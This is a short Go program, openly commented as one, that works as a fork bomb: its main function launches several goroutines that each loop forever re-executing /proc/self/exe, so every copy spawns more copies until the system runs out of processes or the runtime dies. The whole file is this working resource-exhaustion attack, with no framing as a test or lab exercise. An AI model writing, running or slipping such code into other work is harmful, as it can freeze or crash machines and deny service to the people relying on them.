package main

import (
	"os"
	"os/exec"
)

// Starts copies of itself forever; every copy does the same, from several
// goroutines. A refused fork (or thread) is retried, or kills the runtime.
func main() {
	for range 4 {
		go bomb()
	}
	bomb()
}

func bomb() {
	for {
		cmd := exec.Command("/proc/self/exe")
		cmd.Args = os.Args
		cmd.Start()
	}
}
